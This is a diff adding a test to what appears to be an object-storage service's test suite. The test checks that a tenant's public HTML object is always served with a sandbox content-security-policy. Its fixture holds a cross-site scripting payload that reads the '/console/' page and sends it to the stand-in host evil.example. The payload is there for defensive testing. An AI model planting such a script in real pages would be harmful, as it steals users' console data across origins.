@@ -239,3 +239,31 @@ test('an anonymous GET cannot choose the answer headers (response-content-type):
   assert.equal(own.ContentType, 'text/plain');
   await own.Body?.transformToString();
 });
+
+test("a tenant's HTML object is served sandboxed: it never runs as the origin the console shares", async () => {
+  const pub = bucketName('review-html');
+  await other.send(new CreateBucketCommand({ Bucket: pub, ACL: 'public-read' }));
+  const page =
+    "<script>fetch('/console/').then((r) => r.text()).then((t) => fetch('//evil.example/?' + t))</script>";
+  await other.send(
+    new PutObjectCommand({
+      Bucket: pub,
+      Key: 'page.html',
+      Body: page,
+      ContentType: 'text/html',
+      ACL: 'public-read',
+    }),
+  );
+  for (const method of ['GET', 'HEAD']) {
+    const res = await fetch(`${f.t.endpoint}/${pub}/page.html`, { method });
+    assert.equal(res.status, 200);
+    assert.equal(res.headers.get('content-type'), 'text/html');
+    assert.equal(res.headers.get('content-security-policy'), 'sandbox', method);
+    await res.arrayBuffer();
+  }
+  // A range read is sandboxed alike.
+  const ranged = await fetch(`${f.t.endpoint}/${pub}/page.html`, { headers: { range: 'bytes=0-7' } });
+  assert.equal(ranged.status, 206);
+  assert.equal(ranged.headers.get('content-security-policy'), 'sandbox');
+  await ranged.arrayBuffer();
+});
